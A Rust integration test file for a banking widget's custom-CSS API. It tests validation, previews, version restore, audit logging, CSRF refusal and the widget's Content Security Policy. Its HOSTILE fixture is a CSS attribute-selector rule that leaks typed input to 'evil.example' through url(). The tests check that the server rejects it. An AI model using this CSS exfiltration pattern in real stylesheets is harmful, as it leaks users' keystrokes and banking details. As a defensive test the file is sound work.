//! Custom CSS through the dashboard API: validation with line and column,
//! previews, saving, going back one version, restoring the default, the
//! audit log, content-addressed serving, and the widget's CSP.

use bankport_shared::css::{CustomCssResponse, PreviewCssResponse};
use bankport_shared::widget::LinkInfoResponse;
use reqwest::Method;
use serde_json::json;

use crate::helpers::{TestApp, assert_error, spawn_app};
use crate::link_flow::{setup, widget};

/// The seed guide's example, as integrators copy it (with `!important`).
pub const SEED_EXAMPLE: &str = include_str!("../../src/css/tests/themes/seed_guide.css");

const HOSTILE: &str = "#title-select-bank { color: red; }
#background { position: fixed; }
#input-search-bank[value^=\"a\"] { background: url(https://evil.example/a); }
";

async fn upload(app: &TestApp, browser: &reqwest::Client, css: &str) -> reqwest::Response {
    app.send(
        browser,
        Method::POST,
        "/api/custom-css",
        &json!({ "css": css, "file_name": "theme.css" }),
    )
    .await
}

async fn open_link(app: &TestApp, link_token: &str) -> LinkInfoResponse {
    let response = widget(app, "/api/link/open", &json!({ "token": link_token })).await;
    assert_eq!(response.status().as_u16(), 200);
    response.json().await.unwrap()
}

#[tokio::test]
async fn an_accepted_theme_is_stored_minified_served_by_hash_and_applied_to_every_link() {
    let app = spawn_app().await;
    let s = setup(&app, "theme@fintech.example", "https://fintech.example/cb").await;
    // A second app of the same account gets the theme too; another account does not.
    let second_app = crate::apps::create_app(&app, &s.browser, "Second").await;
    let uri = crate::apps::add_uri(
        &app,
        &s.browser,
        &second_app.app.id,
        "https://fintech.example/two",
    )
    .await;
    let second_link =
        crate::apps::create_link(&app, &s.browser, &second_app.app.id, &uri.id, "Two").await;
    let other = setup(&app, "other@fintech.example", "https://other.example/cb").await;

    let empty: CustomCssResponse = app
        .send(&s.browser, Method::GET, "/api/custom-css", &json!({}))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(empty, CustomCssResponse::default());
    assert_eq!(open_link(&app, &s.link.token).await.stylesheet, None);

    // A preview is hosted but applies to nothing.
    let response = app
        .send(
            &s.browser,
            Method::POST,
            "/api/custom-css/preview",
            &json!({ "css": SEED_EXAMPLE }),
        )
        .await;
    assert_eq!(response.status().as_u16(), 200);
    let preview: PreviewCssResponse = response.json().await.unwrap();
    assert!(!preview.css.contains("!important") && !preview.css.contains('\n'));
    assert!(!preview.notes.is_empty(), "dropping !important is noted");
    assert_eq!(app.get(&preview.url).await.status().as_u16(), 200);
    assert_eq!(open_link(&app, &s.link.token).await.stylesheet, None);

    let response = upload(&app, &s.browser, SEED_EXAMPLE).await;
    assert_eq!(response.status().as_u16(), 200);
    let saved: CustomCssResponse = response.json().await.unwrap();
    let current = saved.current.clone().expect("a current theme");
    assert_eq!(current.css, preview.css);
    assert_eq!(current.url, format!("/theme/{}.css", current.hash));
    assert_eq!(current.file_name.as_deref(), Some("theme.css"));
    assert_eq!(current.uploaded_by, "theme@fintech.example");
    assert!(saved.previous.is_none());

    for link in [&s.link.token, &second_link.token] {
        assert_eq!(
            open_link(&app, link).await.stylesheet.as_deref(),
            Some(current.url.as_str())
        );
    }
    assert_eq!(open_link(&app, &other.link.token).await.stylesheet, None);

    let served = app.get(&current.url).await;
    assert_eq!(served.status().as_u16(), 200);
    let headers = served.headers().clone();
    assert_eq!(headers["content-type"], "text/css; charset=utf-8");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(
        headers["cache-control"]
            .to_str()
            .unwrap()
            .contains("immutable")
    );
    assert_eq!(served.text().await.unwrap(), current.css);
    let account_id =
        bankport_backend::db::accounts::find_by_email(&app.app_db, "theme@fintech.example")
            .await
            .unwrap()
            .unwrap()
            .id;
    let log = bankport_backend::db::custom_css::audit_log(&app.app_db, account_id)
        .await
        .unwrap();
    let actions: Vec<(&str, Option<&str>)> = log
        .iter()
        .rev()
        .map(|e| (e.action.as_str(), e.hash.as_deref()))
        .collect();
    assert_eq!(
        actions,
        [
            ("preview", Some(preview.hash.as_str())),
            ("upload", Some(current.hash.as_str()))
        ]
    );
    for bad in [
        "/theme/abc.css",
        "/theme/../secret.css",
        &current.url.replace(".css", ".js"),
    ] {
        assert_eq!(app.get(bad).await.status().as_u16(), 404, "{bad}");
    }
}

#[tokio::test]
async fn a_hostile_file_is_refused_with_every_problem_located_and_nothing_changes() {
    let app = spawn_app().await;
    let s = setup(
        &app,
        "hostile@fintech.example",
        "https://fintech.example/cb",
    )
    .await;
    let saved: CustomCssResponse = upload(&app, &s.browser, SEED_EXAMPLE)
        .await
        .json()
        .await
        .unwrap();

    let body = assert_error(upload(&app, &s.browser, HOSTILE).await, 422, "INVALID_CSS").await;
    assert!(body.violations.len() >= 3, "{:?}", body.violations);
    let lines: Vec<u32> = body.violations.iter().map(|v| v.line).collect();
    assert!(lines.contains(&2) && lines.contains(&3), "{lines:?}");
    let reasons = body
        .violations
        .iter()
        .map(|v| v.reason.as_str())
        .collect::<Vec<_>>()
        .join("\n");
    assert!(reasons.contains("position"), "{reasons}");
    assert!(reasons.contains("url("), "{reasons}");
    assert!(body.violations.iter().all(|v| v.column >= 1));

    let oversized = format!(
        "#background {{ color: red; }}\n/*{}*/",
        "x".repeat(16 * 1024)
    );
    assert_error(
        upload(&app, &s.browser, &oversized).await,
        422,
        "INVALID_CSS",
    )
    .await;
    let preview = app
        .send(
            &s.browser,
            Method::POST,
            "/api/custom-css/preview",
            &json!({ "css": HOSTILE }),
        )
        .await;
    assert_error(preview, 422, "INVALID_CSS").await;

    // The saved theme is untouched.
    let theme: CustomCssResponse = app
        .send(&s.browser, Method::GET, "/api/custom-css", &json!({}))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(theme.current, saved.current);
    assert!(theme.previous.is_none());
}

#[tokio::test]
async fn previous_version_and_default_theme_can_be_restored_and_every_change_is_audited() {
    let app = spawn_app().await;
    let s = setup(
        &app,
        "restore@fintech.example",
        "https://fintech.example/cb",
    )
    .await;
    let first: CustomCssResponse = upload(&app, &s.browser, SEED_EXAMPLE)
        .await
        .json()
        .await
        .unwrap();
    let dark = "#background { background: #101418 } #title-select-bank { color: #f0f0f0 }";
    let second: CustomCssResponse = upload(&app, &s.browser, dark).await.json().await.unwrap();
    assert_eq!(second.previous, first.current);

    let response = app
        .send(
            &s.browser,
            Method::POST,
            "/api/custom-css/restore-previous",
            &json!({}),
        )
        .await;
    assert_eq!(response.status().as_u16(), 200);
    let back: CustomCssResponse = response.json().await.unwrap();
    assert_eq!(
        back.current.as_ref().map(|v| &v.hash),
        first.current.as_ref().map(|v| &v.hash)
    );
    assert_eq!(
        back.previous.as_ref().map(|v| &v.hash),
        second.current.as_ref().map(|v| &v.hash)
    );

    let response = app
        .send(&s.browser, Method::DELETE, "/api/custom-css", &json!({}))
        .await;
    assert_eq!(response.status().as_u16(), 200);
    let default: CustomCssResponse = response.json().await.unwrap();
    assert!(default.current.is_none());
    assert_eq!(
        default.previous.as_ref().map(|v| &v.hash),
        first.current.as_ref().map(|v| &v.hash)
    );
    assert_eq!(open_link(&app, &s.link.token).await.stylesheet, None);
    // The old theme's URL keeps working for pages still showing it.
    let old_url = &first.current.as_ref().unwrap().url;
    assert_eq!(app.get(old_url).await.status().as_u16(), 200);

    // One step back from the default brings the last theme back.
    let again: CustomCssResponse = app
        .send(
            &s.browser,
            Method::POST,
            "/api/custom-css/restore-previous",
            &json!({}),
        )
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        again.current.as_ref().map(|v| &v.hash),
        first.current.as_ref().map(|v| &v.hash)
    );

    let account_id =
        bankport_backend::db::accounts::find_by_email(&app.app_db, "restore@fintech.example")
            .await
            .unwrap()
            .unwrap()
            .id;
    let log = bankport_backend::db::custom_css::audit_log(&app.app_db, account_id)
        .await
        .unwrap();
    let actions: Vec<&str> = log.iter().rev().map(|e| e.action.as_str()).collect();
    assert_eq!(
        actions,
        [
            "upload",
            "upload",
            "restore_previous",
            "restore_default",
            "restore_previous"
        ]
    );
    assert!(log.iter().all(|e| e.actor == "restore@fintech.example"));
    assert_eq!(
        log.last().unwrap().hash,
        first.current.as_ref().map(|v| v.hash.clone())
    );

    // Someone else's session cannot touch it; no session at all is refused.
    let stranger = app.integrator("stranger@fintech.example").await;
    let theirs: CustomCssResponse = app
        .send(&stranger, Method::GET, "/api/custom-css", &json!({}))
        .await
        .json()
        .await
        .unwrap();
    assert!(theirs.current.is_none());
    // Their uploads and restores change their own theme, never this one.
    upload(&app, &stranger, dark).await;
    app.send(&stranger, Method::DELETE, "/api/custom-css", &json!({}))
        .await;
    let mine: CustomCssResponse = app
        .send(&s.browser, Method::GET, "/api/custom-css", &json!({}))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        mine.current.as_ref().map(|v| &v.hash),
        first.current.as_ref().map(|v| &v.hash)
    );
    let anonymous = app
        .send(
            &app.client,
            Method::POST,
            "/api/custom-css",
            &json!({ "css": dark }),
        )
        .await;
    assert_error(anonymous, 401, "UNAUTHENTICATED").await;
    // A cross-site upload is refused by the CSRF guard.
    let cross_site = s
        .browser
        .post(app.url("/api/custom-css"))
        .header("origin", "https://evil.example")
        .json(&json!({ "css": dark }))
        .send()
        .await
        .unwrap();
    assert_eq!(cross_site.status().as_u16(), 403);
}

#[tokio::test]
async fn the_widget_page_sends_a_content_security_policy_that_stops_exfiltration() {
    let app = spawn_app().await;
    let s = setup(
        &app,
        "frames@fintech.example",
        "https://shop.fintech.example/cb",
    )
    .await;
    crate::apps::add_uri(&app, &s.browser, &s.app.app.id, "myapp://callback").await;
    // The page exists only where its CSP goes with it.
    for path in ["/widget/", "/widget/index.html", "/widget"] {
        let body = app.get(path).await.text().await.unwrap();
        assert!(
            !body.contains("<title>widget</title>"),
            "{path} serves the widget page"
        );
    }
    for path in ["/link?token=abc", "/link/"] {
        let response = app.get(path).await;
        assert_eq!(response.status().as_u16(), 200, "{path}");
        let csp = response.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .to_owned();
        for directive in [
            "default-src 'self'",
            "style-src 'self'",
            "img-src 'self' data:",
            "font-src 'self'",
            "connect-src 'self'",
            "form-action 'self'",
            "base-uri 'none'",
            "object-src 'none'",
            "'wasm-unsafe-eval'",
            "'sha256-",
        ] {
            assert!(csp.contains(directive), "{directive} missing: {csp}");
        }
        assert!(!csp.contains("unsafe-inline"), "{csp}");
        assert_eq!(response.headers()["referrer-policy"], "no-referrer");
        assert!(csp.ends_with("frame-ancestors 'self'"), "{csp}");
    }
    // A link may be framed by its integrator's own web origins (from the
    // app's redirect URIs), and by nothing else.
    let response = app
        .get(&format!("/link?token={}&bank=sandbox-es", s.link.token))
        .await;
    let csp = response.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        csp.ends_with("frame-ancestors 'self' https://shop.fintech.example"),
        "{csp}"
    );
    // What the browser runs is exactly what the CSP hashes.
    let body = response.text().await.unwrap();
    assert!(body.contains("<script type=\"module\">"));
}
